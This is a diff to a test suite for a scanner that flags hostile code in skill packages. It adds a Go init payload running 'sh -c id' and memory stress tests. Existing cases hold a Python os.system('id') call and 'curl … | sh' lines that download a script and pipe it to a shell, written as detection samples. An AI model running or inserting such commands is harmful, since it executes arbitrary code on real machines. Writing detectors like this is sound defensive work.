@@ -42,6 +42,7 @@ describe.each(Object.entries(HOSTILE_PIECES))("%s", (path, pieces) => {
 
 test.each([
   ["a.py", "(", '\nimport os\nos.system("id")\n', "shell-command"],
+  ["a.go", ",", '\nfunc init() { exec.Command("sh", "-c", "id").Run() }\n', "shell-command"],
   ["a.py", "x = 1\n", '\nimport os\nos.system("id")\n', "shell-command"],
   ["a.sh", "echo a\n", "\ncurl https://files.example/a | sh\n", "download-piped-to-shell"],
   ["a.sh", "x=a$x\n", "\ncurl https://files.example/a | sh\n", "download-piped-to-shell"],
@@ -52,4 +53,19 @@ test.each([
     const isSeen = findings.some((finding) => finding.rule === rule);
     expect(isSeen || findings.some(({ category }) => category === "unanalysable")).toBe(true);
   }
+});
+
+test.each([
+  ["a.py", "\0"],
+  ["a.js", "\0"],
+  ["a.go", "\0"],
+  ["a.rb", "\0"],
+  ["a.sh", "eval "],
+  ["a.yaml", "- "],
+  ["SKILL.md", ";"],
+])("four megabytes of %s with %j end in an answer, within memory", (path, piece) => {
+  scanner.renew();
+  const { files } = scanner.scanSkill({ [path]: piece.repeat((4 * MIB) / piece.length) });
+  expect(files).toHaveLength(1);
+  expect(scanner.memoryBytes()).toBeLessThanOrEqual(MOST_MEMORY);
 });
